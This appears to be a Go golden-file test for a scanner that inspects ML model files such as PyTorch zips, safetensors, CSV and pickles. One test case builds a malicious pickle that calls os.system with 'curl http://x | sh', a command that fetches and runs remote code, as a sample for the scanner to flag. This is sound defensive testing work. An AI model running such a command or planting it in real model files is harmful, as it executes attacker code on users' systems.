package scan

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the golden reports in testdata/golden")

// TestGoldenReports pins the JSON form of reports, which `lockstep scan
// --json` prints and the provenance records keep.
func TestGoldenReports(t *testing.T) {
	cases := []struct {
		golden, name string
		data         []byte
		opts         Options
	}{
		{"pytorch-zip-evil", "model.pt", buildZip(
			zipMember{name: "model/data.pkl", data: []byte(call4("os", "system", "curl http://x | sh"))},
			zipMember{name: "model/data/0", data: make([]byte, 64)},
			zipMember{name: "model/version", data: []byte("3\n")}), Options{}},
		{"safetensors", "model.safetensors", safetensorsBytes(`{"w":{"dtype":"F16","shape":[4],"data_offsets":[0,8]}}`, 8), Options{}},
		{"csv-invalid", "table.csv", []byte("a,b\n1,2\n3\n"), Options{}},
		{"pickle-allowed", "tree.pkl", []byte(proto(2) + glob("sklearn.tree._classes", "DecisionTreeClassifier") + ")\x81}U\x09max_depthK\x03sb."), Options{Pickle: PickleAllow}},
	}
	for _, c := range cases {
		t.Run(c.golden, func(t *testing.T) {
			rep, err := Reader(context.Background(), c.name, bytes.NewReader(c.data), int64(len(c.data)), c.opts)
			if err != nil {
				t.Fatal(err)
			}
			got, err := json.MarshalIndent(rep, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, '\n')
			path := filepath.Join("testdata", "golden", c.golden+".json")
			if *update {
				os.MkdirAll(filepath.Dir(path), 0o755)
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("report differs from %s:\n%s", path, got)
			}
		})
	}
}
